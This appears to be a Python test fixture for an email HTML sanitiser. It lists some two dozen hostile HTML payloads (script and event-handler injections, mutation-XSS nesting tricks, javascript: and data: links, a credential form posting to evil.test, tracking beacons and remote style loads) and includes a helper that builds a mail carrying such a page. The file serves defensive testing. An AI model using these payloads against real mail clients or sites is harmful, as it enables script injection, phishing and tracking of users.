"""Mails whose page means harm, and what must be left of them."""

from __future__ import annotations

import struct
from email.message import EmailMessage

from tests.support.mail import letter

PICTURE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 1, 1) + (
    b"\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\xdac\xfc\xcf\xc0P\x0f\0\x04\x85\x01\x80\x84\xa9\x8c!\0\0\0\0IEND\xaeB`\x82"
)  # fmt: skip
CONTENT_ID = "pic@customer.test"
RAN = "it-ran"  # the title of a page that ran what it must not

# Each would run something, load something or leave the page if it came through.
HOSTILE = (
    "<script>document.title='it-ran'</script>",
    "<img src=x onerror=\"document.title='it-ran'\">",
    "<svg onload=\"document.title='it-ran'\"><circle r=1></svg>",
    "<svg><script>document.title='it-ran'</script></svg>",
    "<svg><style><img src=x onerror=\"document.title='it-ran'\"></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=\"document.title='it-ran'\"></style></mglyph></table></math>",
    "<iframe srcdoc=\"<script>parent.document.title='it-ran'</script>\"></iframe>",
    "<object data='javascript:document.title=1'></object><embed src='//evil.test/x.swf'>",
    "<a href=\"javascript:document.title='it-ran'\">a</a><a href=' java\nscript:x'>b</a>",
    "<a href='data:text/html,<script>1</script>'>c</a>",
    "<form action='https://evil.test/steal'><input name=p><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'><base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'><style>@import 'https://evil.test/y.css';</style>",
    "<img src='https://evil.test/beacon.gif?who=agent'><img src='//evil.test/b.gif'>",
    "<img srcset='https://evil.test/s.png 1x'><picture><source srcset='https://evil.test/p.png'></picture>",
    "<video poster='https://evil.test/v.png' src='https://evil.test/v.mp4' autoplay></video>",
    "<div style=\"background:url('https://evil.test/bg.png')\">x</div>",
    "<table background='https://evil.test/t.png'><td background='https://evil.test/td.png'>x</td></table>",
    "<img data-file='" + "0" * 64 + "'><img src='/api/v1/me'><img src='../../attachments/x'>",
    "<p title='\"><script>document.title=1</script>'>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='it-ran'>\"></noscript>",
    "<div id=root style='position:fixed;inset:0;z-index:9999'>a false sign-in form</div>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    " data-file=\"" + "0" * 64 + "\" and data-cid=\"pic@customer.test\" as mere words",
)  # fmt: skip


def page_mail(to: str, html: str, *, with_picture: bool = True, **headers: str) -> EmailMessage:
    """Return a mail with that page, and a picture that the page may name by ``cid:pic@customer.test``."""
    mail = letter(to, "See the page.", **headers)
    mail.add_alternative(html, subtype="html")
    if with_picture:
        page = mail.get_payload()[1]
        assert isinstance(page, EmailMessage)
        page.add_related(PICTURE, "image", "png", cid=f"<{CONTENT_ID}>", filename="E4.png")
    return mail
